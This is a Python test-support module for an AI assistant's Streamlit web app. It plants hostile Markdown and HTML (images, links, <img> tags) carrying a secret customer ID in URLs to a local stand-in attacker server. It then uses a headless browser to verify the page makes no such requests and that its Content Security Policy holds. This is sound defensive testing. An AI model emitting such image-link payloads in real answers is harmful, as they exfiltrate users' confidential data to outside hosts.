"""The hostile-Markdown attack on the real app, shared by tests/test_ui_security_browser.py and
bench/security_check.py: a local HTTP server that records every request (the attacker's host; only
127.0.0.1 is reachable here), a saved conversation whose answers (one as the structured answer path saves it,
one as the release before did), thinking, tool trace, quoted units, verdict, sources and title carry images,
links and HTML pointing at it, the app served by `streamlit run`, and Debian's Chromium (through playwright)
logged in, opening every expander.

Also the app over a scripted model (`run_scripted_app`, served with `app_server(..., scripted=...)`): the model
writes given structured replies, everything else is real (tests/test_ui_browser.py)."""

from __future__ import annotations

import http.server
import json
import os
import re
import runpy
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from assistant.app import conversations
from assistant.app.users import add_user
from assistant.backends.scripted import ScriptedChat
from core import db

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "Quiet-Harbour-Lantern-2026"
SECRET = "CUS-1001-fraud-watchlist"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """(base URL, the paths requested so far) of a server that answers every request with a 1x1 PNG."""
    seen: list[str] = []
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c"
                        "6360000002000154a24f5d0000000049454e44ae426082")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(png)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()


def hostile_payload(leak: str) -> dict[str, Any]:
    """An answer as a saved turn stores it, with a fetch attempt in every text the view draws."""
    def img(tag: str) -> str:
        return f"![x]({leak}/{tag}.png?leak={SECRET})"

    return {
        "question": "客户情况？",
        "answer": (f"客户 {SECRET} 的情况如下 [1]。{img('answer')} <img src=\"{leak}/html.png\"> "
                   f"[详情]({leak}/link) <{leak}/autolink> {leak}/bare ![ref][r]\n\n[r]: {leak}/ref.png"),
        "thinking": f"先查资料。{img('thinking')}",
        "tool_calls": [{"name": f"lookup{img('toolname')}", "arguments": {"q": img("toolargs")},
                        "result": {"note": img("toolresult")}, "error": None, "denied": False, "duration_s": 0.01}],
        "sources": [{"n": 1, "source": f"report{img('source')}.md", "page": None,
                     "clause": f"第一条 {img('clause')}", "text": f"段落 {img('passage')} <img src=\"{leak}/p.png\">",
                     "chunk_id": "0123456789ab:deadbeef:0000", "doc_id": "0123456789ab"}],
        "adapter": f"claims@v1{img('adapter')}", "latency_s": 1.0, "audit_id": None, "kb": "default",
    }


def hostile_structured_payload(leak: str) -> dict[str, Any]:
    """The same attack on an answer as the structured answer path saves it: the model's lead, the quoted units
    (a sentence, a table row under its header, a look-up's record), the verdict's reasons, the question as
    searched, the tool trace (a dropped call)."""
    def img(tag: str) -> str:
        return f"![x]({leak}/{tag}.png?leak={SECRET})"

    unit = {"page": None, "page_label": None, "chunk_id": "0123456789ab:deadbeef:0000", "doc_id": "0123456789ab",
            "path": None}
    sources = [
        unit | {"n": 1, "unit": 1, "source": f"report{img('s_source')}.md", "clause": f"第一条 {img('s_clause')}",
                "text": f"段落 {img('s_unit')} <img src=\"{leak}/s_html.png\"> [链接]({leak}/s_link)", "header": None,
                "kind": "sentence"},
        unit | {"n": 2, "unit": 2, "source": "rates.md", "clause": None, "kind": "row",
                "header": f"| 项目 {img('s_header')} | 费率 |",
                "text": f"| 身故 <{leak}/s_autolink> | {img('s_cell')} |"},
        {"n": 3, "unit": 3, "source": f"lookup{img('s_tool')}", "page": None, "page_label": None, "clause": None,
         "text": f"lookup(x): note: {img('s_record')}", "header": None, "kind": "tool", "chunk_id": "", "doc_id": "",
         "path": None},
    ]
    lead = f"客户 {SECRET} 的情况如下 {img('answer')} <img src=\"{leak}/html.png\"> [详情]({leak}/link) [1][2][3]"
    return {
        "question": "客户情况？", "outcome": "answer", "lead": lead, "model_answer": lead, "sources": sources,
        "answer": lead + "\n\n" + "\n".join(f"> {s['text']} [{s['n']}]" for s in sources),
        "verification": {"status": "verified", "reasons": [f"reason {img('s_reason')}"], "unsupported": [],
                         "support": 0.9},
        "standalone": f"客户情况 {img('s_standalone')}？", "thinking": f"先查资料。{img('s_thinking')}",
        "tool_calls": [{"name": f"lookup{img('s_toolname')}", "arguments": {"q": img("s_toolargs")}, "ok": False,
                        "status": "dropped", "result": None, "error": f"not offered {img('s_toolerror')}",
                        "denied": False, "duration_s": 0.0}],
        "retrieved": [{"chunk_id": unit["chunk_id"], "text": f"整段 {img('s_passage')}", "source": "report.md"}],
        "timings": {f"stage{img('s_timing')}": 0.1}, "model": f"m{img('s_model')}",
        "adapter": f"claims@v1{img('s_adapter')}", "latency_s": 1.0, "audit_id": None, "kb": "default",
    }


def seed(home: Path, user: str, leak: str) -> None:
    """A user whose saved conversation (title included) carries the hostile answers: one saved by the release
    before (`answer` only), one as the structured answer path saves it."""
    db = home / "app.db"
    add_user(db, user, PASSWORD, "claims", "claims")
    conv = conversations.create(db, user, f"客户 ![t]({leak}/title.png?leak={SECRET})")
    for payload in (hostile_payload(leak), hostile_structured_payload(leak)):
        conversations.add_turn(db, conv.id, user, f"问题 ![q]({leak}/question.png)", payload["answer"], payload)


# ---- the app over a scripted model ----------------------------------------------------------------------------
def unit_id(messages: list[Any], fragment: str) -> int:
    """The number of the evidence unit holding `fragment` in what the model was shown."""
    text = "\n".join(str(m.content) for m in messages)
    m = re.search(rf"^\[(\d+)\] [^\n]*{re.escape(fragment)}", text, re.M)
    if not m:
        raise AssertionError(f"no unit holds {fragment!r} in:\n{text}")
    return int(m.group(1))


def cite(fragment: str, answer: str, *more: str) -> Callable[[list[Any]], str]:
    """A structured reply citing the units that hold `fragment` (and `more`) by their keys, with `answer`."""
    def reply(messages: list[Any]) -> str:
        from core.prompts import answer_reply, prompt_units

        units = prompt_units([{"role": "user", "content": str(m.content)} for m in messages if m.type == "human"])
        return answer_reply(units, [unit_id(messages, f) for f in (fragment, *more)], answer)
    return reply


REFUSE = '{"evidence":[],"answer":""}'


def scripted_reply(spec: str | dict[str, Any]) -> str | Callable[[list[Any]], str]:
    """A reply as JSON can carry it: the text itself, or {"cite": [fragments], "answer": text}."""
    return cite(*spec["cite"][:1], spec["answer"], *spec["cite"][1:]) if isinstance(spec, dict) else spec


@dataclass
class PacedScriptedChat(ScriptedChat):
    """A scripted model that writes at a reading pace (`delay_s` per piece), so that a browser sees the answer
    grow."""

    delay_s: float = 0.0

    def turn(self, messages: list[Any], tools: list[dict[str, Any]], *, think: bool, adapter: str | None,
             on_text: Callable[[str], None], schema: dict[str, Any] | None = None) -> Any:
        def paced(piece: str) -> None:
            time.sleep(self.delay_s)
            on_text(piece)

        return super().turn(messages, tools, think=think, adapter=adapter, on_text=paced, schema=schema)


_SCRIPTED: dict[str, Any] = {}


def scripted_assistant(settings: Any) -> Any:
    """The assistant over a scripted model, once per process: its replies from $UI_SCRIPTED_REPLIES (a JSON list
    of `scripted_reply` specs, the i-th for the i-th model turn), its pace from $UI_SCRIPTED_DELAY (seconds)."""
    if "assistant" not in _SCRIPTED:
        from assistant.chain import build_assistant

        replies = [scripted_reply(r) for r in json.loads(os.environ.get("UI_SCRIPTED_REPLIES") or "[]")]
        chat = PacedScriptedChat(replies=replies or [REFUSE], delay_s=float(os.environ.get("UI_SCRIPTED_DELAY", 0)))
        _SCRIPTED["assistant"] = build_assistant(settings, chat=chat)
    return _SCRIPTED["assistant"]


def run_scripted_app() -> None:
    """ui/app.py with the assistant over the scripted model (the script `app_server(..., scripted=...)` serves)."""
    from ui import state

    state.assistant = scripted_assistant
    runpy.run_path(str(ROOT / "ui" / "app.py"), run_name="__main__")


SCRIPTED_APP = "from ui.testing import run_scripted_app\n\nrun_scripted_app()\n"


@contextmanager
def app_server(home: Path, log: Path, extra_env: dict[str, str] | None = None,
               scripted: list[str | dict[str, Any]] | None = None, delay_s: float = 0.0) -> Iterator[str]:
    """`streamlit run ui/app.py` on 127.0.0.1 with this data home; yields its URL once healthy. With `scripted`
    (`scripted_reply` specs), the app's model writes those replies, `delay_s` per piece."""
    port = free_port()
    # the app reads the caller's stores: its knowledge bases' store and the database its app state is in
    stores = {k: os.environ[k] for k in ("ASSISTANT_VECTOR_STORE", "ASSISTANT_MILVUS_URI", "ASSISTANT_MILVUS_TOKEN")
              if k in os.environ}
    if url := db.database_url(home / "app.db"):
        stores["ASSISTANT_DATABASE_URL"] = url
    env = {k: v for k, v in os.environ.items() if not k.startswith("ASSISTANT_")} | {
        "ASSISTANT_HOME": str(home), **stores, **(extra_env or {})}
    script = ROOT / "ui" / "app.py"
    if scripted is not None:
        script = log.parent / "scripted_app.py"
        script.write_text(SCRIPTED_APP, encoding="utf-8")
        env |= {"UI_SCRIPTED_REPLIES": json.dumps(scripted, ensure_ascii=False), "UI_SCRIPTED_DELAY": str(delay_s)}
    with open(log, "wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", str(script), "--server.headless", "true",
             "--server.port", str(port), "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false",
             "--server.fileWatcherType", "none"], env=env, stdout=out, stderr=subprocess.STDOUT, cwd=str(ROOT))
        url = f"http://127.0.0.1:{port}"
        try:
            deadline = time.time() + 90
            while True:
                try:
                    if urllib.request.urlopen(f"{url}/_stcore/health", timeout=2).read() == b"ok":
                        break
                except OSError:
                    pass
                if proc.poll() is not None or time.time() > deadline:
                    raise RuntimeError(f"the app did not start: {log.read_text(errors='replace')[-2000:]}")
                time.sleep(0.5)
            yield url
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:  # a loaded machine can be slow to shut the server down
                proc.kill()
                proc.wait()


def chromium() -> str:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if not path:
        raise RuntimeError("Debian's chromium is needed: `apt-get install chromium` (scripts/test.sh does it)")
    return path


def view_hostile_answer(url: str, user: str, leak: str, screenshot: Path | None = None) -> dict[str, Any]:
    """Log in, let the saved hostile turn render with every expander open, and report what the page holds:
    images and links pointing at the leak host, whether the escaped text is readable, the CSP in force and
    whether it blocks an image added by script (the second line of defence)."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium(),
                                     args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1400})
            page.set_default_timeout(60_000)
            page.goto(url)
            page.get_by_role("textbox", name="User name").fill(user)
            page.get_by_role("textbox", name="Password").fill(PASSWORD)
            page.get_by_role("button", name="Log in").click()
            answer = page.get_by_test_id("stChatMessage").filter(has_text=SECRET)
            expect(answer).to_have_count(2, timeout=60_000)  # the answer saved before, the structured one
            for summary in page.locator("[data-testid='stExpander'] summary").all():
                summary.click()
            page.wait_for_timeout(2500)  # time for any image to be requested
            stats = page.evaluate("""(leak) => ({
              imgs: [...document.querySelectorAll('img')].map(i => i.src).filter(s => s.startsWith(leak)),
              links: [...document.querySelectorAll('a')].map(a => a.href).filter(h => h.startsWith(leak)),
              html: document.querySelectorAll('[data-testid="stChatMessage"] img[src*="html.png"]').length,
              csp: document.head.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content || null,
              text: document.body.innerText,
            })""", leak)
            if screenshot is not None:
                screenshot.parent.mkdir(parents=True, exist_ok=True)
                page.screenshot(path=str(screenshot), full_page=True)
            # the CSP alone: an image that script adds (as HTML that slipped through would) must not load
            page.evaluate("(u) => { const i = new Image(); i.src = u; document.body.appendChild(i); }",
                          f"{leak}/csp-probe.png")
            page.wait_for_timeout(1500)
            stats["readable"] = f"answer.png?leak={SECRET}" in stats.pop("text")
            return stats
        finally:
            browser.close()
